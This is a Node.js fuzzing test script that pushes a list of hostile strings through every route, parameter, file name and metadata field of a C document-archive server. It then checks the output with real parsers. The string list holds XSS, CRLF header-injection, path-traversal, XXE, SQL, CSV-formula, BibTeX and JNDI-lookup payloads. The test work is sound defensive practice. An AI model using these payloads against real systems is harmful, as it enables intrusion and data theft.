#!/usr/bin/env node
// No input becomes markup: a list of hostile strings goes through every route and parameter of server/routes.c, and through names,
// titles, catalogue data, texts and metadata of documents; what comes back is parsed by real parsers (Chromium for HTML and XML) and
// may hold no element, attribute or header that the templates do not have, and the texts as they were.
//
//     node tests/torture/hostile.mjs [seed=1]        every string in every parameter of every route
//
// The quick form is tests/browser/hostile.test.mjs.
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { House, root } from '../integration/programs.mjs';
import { launch } from '../browser/browser.mjs';

export const STRINGS = {
  script: '<script>zq(1)</script>',
  'image in a value': '"><img src=x onerror=zq(1)>',
  'single quotes': "' onmouseover='zq(1)' x='",
  svg: '<svg/onload=zq(1)><math><mtext></form><style><!--</style>',
  'ends of raw text': '</title></textarea></style></script></noscript><b>zq</b>',
  'attribute without quotes': 'x onfocus=zq(1) autofocus x=',
  entities: '&lt;b&gt;zq&amp;&#60;i&#62;&quot;&apos;&nbsp;&NotEqualTilde;',
  comment: '--><!-- zq --!><![CDATA[<b>zq</b>]]>',
  braces: '{{typed}} {{{typed}}} {{&typed}} {{#result}}zq{{/result}} {{>head}} {{!zq}} {{=<% %>=}}',
  'right to left': 'zq\u202Egnp.exe\u2066\u200F\u061Czq',
  'line break': 'zq\r\nSet-Cookie: zq=1\r\n\r\n<b>zq</b>',
  'line separators': 'zq\u2028alert(1)\u2029zq\u0085zq',
  'control characters': 'zq\u0001\u0007\u0008\u001b[31mzq\u007f\u009b2J',
  'no character': 'zq\uFFFE\uFFFD\uFEFF\uFDD0',
  'javascript:': 'javascript:zq(1)//',
  'data:': 'data:text/html,<script>zq(1)</script>',
  'another host': '//zq.example/x?y=z#w',
  'up the tree': '../../../../etc/passwd',
  'percent tricks': '..%2f..%2f%00%0d%0aX-Zq:%20a%%zz%u0041',
  formula: '=HYPERLINK("http://zq.example/","zq")',
  'formula with a plus': "+1+cmd|' /c calc'!A0",
  'formula with a minus': '-2+3+zq',
  'formula with an at': '@SUM(1,2)',
  'formula behind a tab': '\t=1+1',
  'very long word': 'zq'.repeat(900),
  'many marks': `Z${'\u0300\u0301\u0302'.repeat(60)}q`,
  sql: "'; DROP TABLE document; --zq",
  'full-text syntax': 'zq" OR NEAR(a b, 5) * ^ col : {x y} - AND NOT ( ( "',
  'own syntax': 'title:((a OR -(b NEAR/999 "c"~9 tema:x anno:..9999 * AND | -',
  json: '"},{"zq":"\\u0000\\","x":[',
  xml: ']]><?xml version="1.0"?><!DOCTYPE z [<!ENTITY zq SYSTEM "file:///etc/passwd">]>&zq;',
  csv: 'zq,"a";b\n"c\td',
  bibtex: 'zq}, note={\\input{/etc/passwd}}}\n@article{x, title="{\\write18{zq}}',
  ris: 'zq\nER  - \n\nTY  - BOOK\nTI  - zq',
  'format signs': '%s%n%1$x%.*d ${jndi:ldap://zq.example/} `zq` $(zq)',
  'numbers that are none': '1e309',
  'beyond the plane': '\u{1F469}\u200D\u{1F4BB}\u{10FFFF}\u{E0001}zq',
};
const NAMES = Object.keys(STRINGS);

/* --- what the server has --- */

const source = (name) => fs.readFileSync(path.join(root, 'server', name), 'utf8').replace(/\\\n/g, ' ');

function macros() {
  const found = new Map();
  for (const name of ['routes.c', 'answers/parameters.h', 'pages/status_files.h'])
    for (const [, macro, value] of source(name).matchAll(/^#define (\w+)[ \t]+(.*"[^"\n]*".*)$/gm)) found.set(macro, value);
  return found;
}

// A C expression of strings and macros side by side.
function evaluate(text, known) {
  return text
    .match(/"[^"]*"|\w+/g)
    .map((part) => (part.startsWith('"') ? part.slice(1, -1) : known.has(part) ? evaluate(known.get(part), known) : fail(`what is ${part}?`)))
    .join('');
}
function fail(message) {
  throw new Error(message);
}

export function routes() {
  const known = macros();
  const table = source('routes.c').match(/ROUTES\[\] = \{(.*?)\n\};/s)[1];
  const list = [...table.matchAll(/\{"([^"]+)",\s*\w+,\s*([^{}]*?),\s*HTTP_ROUTE/gs)].map(([, pattern, names]) => ({
    pattern,
    names: evaluate(names, known).split(' ').filter(Boolean),
  }));
  if (list.length !== table.match(/\{"\//g).length) fail('a route that cannot be read');
  return list;
}

// The names of elements, and of the attributes of each, that stand in the templates.
export function templateNames() {
  const allowed = new Map();
  const folder = path.join(root, 'web/templates');
  for (const file of fs.readdirSync(folder)) {
    const text = fs.readFileSync(path.join(folder, file), 'utf8').replace(/\{\{[^}]*\}\}/g, '');
    for (const [, element, rest] of text.matchAll(/<([a-z][\w:-]*)((?:[^>"]|"[^"]*")*)>/gi)) {
      const names = allowed.get(element.toLowerCase()) ?? new Set();
      for (const [, name] of rest.replace(/"[^"]*"/g, '""').matchAll(/([\w:-]+)(?==|\s|$|\/)/g)) names.add(name.toLowerCase());
      allowed.set(element.toLowerCase(), names);
    }
  }
  for (const element of ['html', 'head', 'body', 'tbody']) allowed.set(element, allowed.get(element) ?? new Set());
  return allowed;
}

/* --- documents --- */

// A page of text and a title in the file's metadata.
function pdf(title, line) {
  const hex = Buffer.from(`\uFEFF${title}`, 'utf16le').swap16().toString('hex');
  const text = `BT /F1 12 Tf 72 700 Td (${line.replace(/[\\()]/g, '\\$&')}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Title <${hex}> /Author <${hex}> /Subject <${hex}> /Keywords <${hex}> >>`,
  ];
  let out = '%PDF-1.4\n';
  const offsets = objects.map((object, i) => {
    const at = out.length;
    out += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const xref = out.length;
  out += `xref\n0 7\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}`;
  return `${out}trailer\n<< /Size 7 /Root 1 0 R /Info 6 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
}

// As a file's name: no slash, not hidden, and no longer than names may be.
function fileName(string) {
  let name = string.replace(/[/\0]/g, '∕');
  while (Buffer.byteLength(name) > 180) name = [...name].slice(0, -8).join('');
  return `n${name}`;
}

export function fill(house) {
  NAMES.forEach((name, i) => {
    const string = STRINGS[name];
    const line = string.replace(/[\r\n\0]/g, ' ');
    house.write(`testi/${fileName(string)}/${fileName(string)} ${i}.txt`, `Verbale zqtesto numero ${i}\n\nIl consiglio dice zqdoc${i} ${string} e poi chiude la seduta del comune.\n`);
    house.write(`schede/scheda-${i}.txt`, `Il secondo verbale zqdoc${i} zqscheda del comune, che il consiglio approva.\n`);
    house.write(`schede/scheda-${i}.txt.ini`, `[document]\ntitle = ${line}\nbody = ${line}\ncollection = ${line.replace(/\//g, '-')}\nkind = plan\nyear = ${1990 + i}\n`);
    house.write(`pdf/documento-${i}.pdf`, pdf(string, `Verbale zqdoc${i} zqpdf: ${line.replace(/[^ -~]/g, '?').slice(0, 300)}`));
    house.write(`rotti/${fileName(string)}.pdf`, `%PDF-1.4 rotto ${i}`);
    house.write(`schede-rotte/${i}.txt`, `Un verbale zqrotto numero ${i}.\n`);
    house.write(`schede-rotte/${i}.txt.ini`, `[document]\nyear = ${line}\n${line} = x\n`);
  });
}

/* --- asking --- */

const HEADERS = new Set(
  ('date connection keep-alive content-length content-type content-language content-encoding content-disposition content-range transfer-encoding ' +
    'cache-control etag last-modified vary accept-ranges allow retry-after refresh location link x-robots-tag x-content-type-options x-frame-options ' +
    'referrer-policy content-security-policy permissions-policy cross-origin-opener-policy cross-origin-resource-policy').split(' '),
);
const STATUSES = new Set([200, 303, 400, 404, 410, 414, 422]);
// eslint-disable-next-line no-control-regex
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

// By node:http, which gives headers as they came.
function get(address, target, agent) {
  return new Promise((resolve, reject) => {
    const { hostname, port } = new URL(address);
    http
      .get({ hostname, port, path: target, agent, headers: { 'Accept-Language': 'it' } }, (response) => {
        const parts = [];
        response.on('data', (part) => parts.push(part));
        response.on('error', reject);
        response.on('end', () => resolve({ status: response.statusCode, raw: response.rawHeaders, type: response.headers['content-type'] ?? '', body: Buffer.concat(parts) }));
      })
      .on('error', reject);
  });
}

// Runs in the browser: what of a page is not the templates'.
export function inspect([text, kind, allowed]) {
  const faults = [];
  const document = new DOMParser().parseFromString(text, kind);
  if (document.querySelector('parsererror')) return { faults: [`no ${kind}: ${document.querySelector('parsererror').textContent.slice(0, 200)}`] };
  for (const element of document.querySelectorAll('*')) {
    const name = element.nodeName.toLowerCase();
    const attributes = allowed[name];
    if (!attributes) faults.push(`the element ${name}`);
    for (const attribute of element.attributes) {
      const at = attribute.name.toLowerCase();
      if (attributes && !attributes.includes(at)) faults.push(`the attribute ${name} ${at}`);
      if (at.startsWith('on') || at === 'style' || at === 'srcdoc') faults.push(`the attribute ${name} ${at}`);
      if (kind === 'text/html' && ['href', 'src', 'action', 'formaction'].includes(at) && !/^(\/(?!\/)|#|\?|$|mailto:|https:\/\/schema\.org)/.test(attribute.value) && !attribute.value.startsWith('http://127.0.0.1') && !/^schema\./.test(element.rel ?? ''))
        faults.push(`${name} ${at} leads to ${attribute.value.slice(0, 80)}`);
    }
    if (name === 'script' && kind === 'text/html') {
      const type = element.getAttribute('type');
      if (type === 'application/ld+json') {
        try {
          JSON.parse(element.textContent);
        } catch {
          faults.push('JSON-LD that is none');
        }
      } else if (element.textContent) faults.push('a script that stands in the page');
    }
  }
  const value = (selector) => document.querySelector(selector)?.value;
  return { faults, typed: value('input[type=search][name=q]'), heading: document.querySelector('h1')?.textContent.trim(), title: document.title };
}

// RFC 4180; the lines of cells, or what is wrong.
function readCsv(text, separator) {
  const rows = [[]];
  let at = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; ; at++) {
        if (at >= text.length) return 'a quotation mark that is never closed';
        if (text[at] === '"' && text[at + 1] !== '"') break;
        if (text[at] === '"') at++;
        cell += text[at];
      }
      at++;
    } else {
      while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n') cell += text[at++];
      if (cell.includes('"')) return 'a quotation mark in a bare cell';
    }
    rows.at(-1).push(cell);
    if (text[at] === separator) at++;
    else if (text[at] === '\r' && text[at + 1] === '\n') {
      at += 2;
      rows.push([]);
    } else if (at < text.length) return `what is ${JSON.stringify(text.slice(at, at + 10))} behind a cell?`;
  }
  if (rows.at(-1).length === 0) rows.pop();
  return rows;
}

export function csvFaults(text, separator) {
  const rows = readCsv(text, separator);
  if (typeof rows === 'string') return [rows];
  const faults = rows.filter((row) => row.length !== rows[0].length).map((row) => `a line of ${row.length} cells, not ${rows[0].length}`);
  for (const cell of rows.flat()) if (/^[=+\-@\t\r]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell)) faults.push(`a cell that a spreadsheet computes: ${cell.slice(0, 40)}`);
  return faults;
}

const json = (text) => {
  try {
    JSON.parse(text);
    return [];
  } catch (error) {
    return [`no JSON: ${error.message}`];
  }
};

export function risFaults(text) {
  const lines = text.split(/\r?\n/).filter(Boolean);
  const faults = lines.filter((line) => !/^[A-Z][A-Z0-9] {2}- ?/.test(line)).map((line) => `a line that is no field: ${line.slice(0, 60)}`);
  const count = (tag) => lines.filter((line) => line.startsWith(`${tag}  - `)).length;
  if (count('TY') !== count('ER') || count('TY') !== count('UR')) faults.push(`${count('TY')} begin, ${count('ER')} end, ${count('UR')} have an address`);
  return faults;
}

export function bibFaults(text) {
  let depth = 0;
  for (let i = 0; i < text.length; i++) {
    if (text[i] === '\\') i++;
    else if (text[i] === '{') depth++;
    else if (text[i] === '}') depth--;
    else if (text[i] === '@' && depth === 0 && !/^@[a-z]+\{/.test(text.slice(i))) return ['an @ between entries'];
    if (depth < 0) return ['a brace too many'];
  }
  return depth === 0 ? [] : ['a brace that is never closed'];
}

// Faults of everything but HTML and XML, which take the browser.
const READERS = [
  [/json( *;|$)/, (text, type) => (/ndjson/.test(type) ? text.split('\n').filter(Boolean).flatMap(json) : json(text))],
  [/csv/, (text, _, target) => csvFaults(text, /semicolon/.test(target) ? ';' : ',')],
  [/bibtex/, bibFaults],
  [/research-info/, risFaults],
];

// All that is wrong with answers to the targets; each { target, expected?, heading? }.
async function judge(house, browser, asked, note) {
  const context = await browser.newContext();
  const page = await context.newPage();
  const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
  const allowed = Object.fromEntries([...templateNames()].map(([name, attributes]) => [name, [...attributes]]));
  const counts = {};
  const one = async ({ target, expected, heading }) => {
    const faults = [];
    const answer = await get(house.address, target, agent);
    const names = answer.raw.filter((_, i) => i % 2 === 0).map((name) => name.toLowerCase());
    counts[answer.status] = (counts[answer.status] ?? 0) + 1;
    if (!STATUSES.has(answer.status)) faults.push(`the status ${answer.status}`);
    for (const name of names) if (!HEADERS.has(name)) faults.push(`the header ${name}`);
    if (new Set(names).size !== names.length) faults.push('a header twice');
    if (answer.raw.some((value) => /[^ -~]/.test(value))) faults.push('a header that is not ASCII');
    const text = answer.body.toString('utf8');
    const kind = /text\/html/.test(answer.type) ? 'text/html' : /xml/.test(answer.type) && !/svg/.test(answer.type) ? 'application/xml' : null;
    if (kind) {
      const seen = answer.body.length ? await page.evaluate(inspect, [text, kind, allowed]) : { faults: [] };
      faults.push(...seen.faults);
      if (expected !== undefined && answer.status === 200 && seen.typed !== undefined && seen.typed !== expected) faults.push(`the box has ${JSON.stringify(seen.typed)}`);
      if (heading !== undefined && seen.heading !== heading) faults.push(`the heading is ${JSON.stringify(seen.heading)}`);
    }
    for (const [type, read] of READERS) if (type.test(answer.type) && answer.status === 200 && !/\/file/.test(target)) faults.push(...read(text, answer.type, target));
    for (const fault of new Set(faults)) note(`${target.slice(0, 150)}: ${fault}`);
  };
  const queue = [...asked];
  await Promise.all(Array.from({ length: 4 }, async () => { while (queue.length) await one(queue.pop()); }));
  agent.destroy();
  await context.close();
  return counts;
}

/* --- the two sweeps --- */

const escape = (string) => encodeURIComponent(string.toWellFormed?.() ?? string);
// A box of one line has no line breaks, and HTML no control characters of ASCII; two code points are no characters.
// eslint-disable-next-line no-control-regex
const inBox = (string) => string.replace(/[\r\n]/g, '').replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '\uFFFD');

function fixed(pattern, ids) {
  const values = { id: ids[0], n: '1', format: 'bib', facet: 'body', version: 'x', name: 'style.css' };
  return pattern.replace(/\{(\w+)\}/g, (_, name) => values[name] ?? fail(`what is {${name}}?`));
}

// Every string in every parameter, or (quickly) a third of the strings, and each parameter once, for every route.
function parameterTargets(ids, isWhole) {
  const targets = [];
  for (const [nth, { pattern, names }] of routes().entries()) {
    const plain = fixed(pattern, ids);
    targets.push({ target: plain });
    const add = (name, at) => {
      const string = STRINGS[NAMES[at % NAMES.length]];
      targets.push({ target: `${plain}?${name}=${escape(string)}`, expected: name === 'q' && !/status/.test(pattern) ? inBox(string) : undefined });
    };
    if (isWhole) for (const name of names) for (let i = 0; i < NAMES.length; i++) add(name, i);
    else for (let i = 0; names.length && i < Math.max(names.length, NAMES.length / 3); i++) add(names[i % names.length], 3 * i + nth);
    if (names.length > 1) for (let i = 0; i < (isWhole ? NAMES.length : 2); i++) targets.push({ target: `${plain}?${names.map((name, k) => `${name}=${escape(STRINGS[NAMES[(i + k) % NAMES.length]])}`).join('&')}` });
    for (const placeholder of pattern.match(/\{\w+\}/g) ?? [])
      for (let i = 0; i < NAMES.length; i += isWhole ? 1 : 5) targets.push({ target: fixed(pattern.replace(placeholder, '\u0000'), ids).replace('\u0000', escape(STRINGS[NAMES[i]])) });
  }
  for (let i = 0; i < NAMES.length; i++) targets.push({ target: `/${escape(STRINGS[NAMES[i]])}` }, { target: `/search?${escape(STRINGS[NAMES[i]])}=${escape(STRINGS[NAMES[i]])}` });
  return targets;
}

function documentTargets(documents, isWhole) {
  const targets = [];
  documents.forEach(({ id, title, path: file }, i) => {
    targets.push({ target: `/documents/${id}?hl=it`, heading: title.replace(/\s+/g, ' ').trim() === title ? title : undefined });
    const more = ['/pages/1', '/pages/1?view=text&q=zqtesto', '/citation/bib', '/citation/ris', '/citation/json', '/citation/txt', '/sidecar', '/file'];
    for (const rest of isWhole ? more : [more[i % more.length], more[(i + 3) % more.length]]) targets.push({ target: `/documents/${id}${rest}` });
    targets.push({ target: `/api/v1/documents/${id}` });
  });
  for (let n = 1; n <= 8; n++) targets.push({ target: `/documents?page=${n}&size=20` }, { target: `/status?page=${n}` }, { target: `/search?q=zqtesto+OR+zqscheda+OR+zqpdf&page=${n}&size=20` });
  for (const list of ['/search.csv', '/search.csv?separator=semicolon', '/search.jsonl', '/search.bib', '/search.ris', '/status.csv', '/status.atom', '/feed.atom', '/sitemap.xml', '/browse/body', '/browse/collection', '/status/catalogue', '/status/text', '/search?q=zqscheda', '/search/record', '/search.atom?q=zqscheda', '/api/v1/files?limit=100', '/api/v1/status', '/search/record.txt'])
    targets.push({ target: list });
  return targets;
}

async function allDocuments(house) {
  const all = [];
  for (let offset = 0; ; offset += 100) {
    const { body } = await house.get(`/api/v1/documents?limit=100&offset=${offset}`);
    all.push(...body.documents);
    if (body.documents.length < 100) return all;
  }
}

// What staff wrote in sidecars is what the catalogue says, up to blanks, punctuation around it, and what no text keeps; where it is no
// sidecar for that, the catalogue says what it would say without.
function catalogueFaults(documents) {
  const faults = [];
  const bare = (text) => text.normalize('NFC').replace(/[\p{C}\p{Z}\uFFFD]/gu, '');
  for (const { path: file, title, body } of documents) {
    const number = file.match(/^schede\/scheda-(\d+)\.txt$/)?.[1];
    const string = number === undefined ? undefined : STRINGS[NAMES[number]].replace(/[\r\n\0]/g, ' ');
    if (string !== undefined && title !== `Scheda ${number}` && !bare(string).includes(bare(title).slice(0, 200))) faults.push(`${file}: the title is ${JSON.stringify(title)}`);
    if (string !== undefined && body && !bare(string).includes(bare(body).slice(0, 200))) faults.push(`${file}: the body is ${JSON.stringify(body)}`);
  }
  return faults;
}

export async function drive(isWhole, say = () => {}) {
  const house = new House();
  const browser = await launch();
  const faults = [];
  try {
    fill(house);
    const indexed = await house.index();
    for (const line of `${indexed.out}${indexed.err}`.split('\n')) if (CONTROLS.test(line.replace(/^.*\r/, ''))) faults.push(`the indexer's log: ${JSON.stringify(line.slice(0, 160))}`);
    const server = await house.serve('--url', 'http://127.0.0.1');
    const documents = await allDocuments(house);
    say(`${documents.length} documents, ${NAMES.length} strings, ${routes().length} routes`);
    faults.push(...catalogueFaults(documents));
    const ids = documents.filter(({ path: file }) => file.startsWith('pdf/')).map(({ id }) => id);
    const asked = [...documentTargets(documents, isWhole), ...parameterTargets(ids, isWhole)];
    const counts = await judge(house, browser, asked, (fault) => faults.push(fault));
    if (server.child.exitCode !== null || server.child.signalCode !== null) faults.push('the server ended');
    for (const line of server.err.split('\n')) if (CONTROLS.test(line)) faults.push(`the server's log: ${JSON.stringify(line.slice(0, 160))}`);
    return { faults, asked: asked.length, counts, documents: documents.length };
  } finally {
    await browser.close();
    await house.close();
  }
}

if (process.argv[1] === new URL(import.meta.url).pathname) {
  const { faults, asked, counts } = await drive(true, console.log);
  console.log(`${faults.length ? 'BAD ' : 'ok  '} ${asked} requests (${Object.entries(counts).map(([status, count]) => `${count} with ${status}`).join(', ')}), ${faults.length} faults`);
  for (const fault of faults.slice(0, 50)) console.log(`     ${fault}`);
  process.exit(faults.length ? 1 : 0);
}
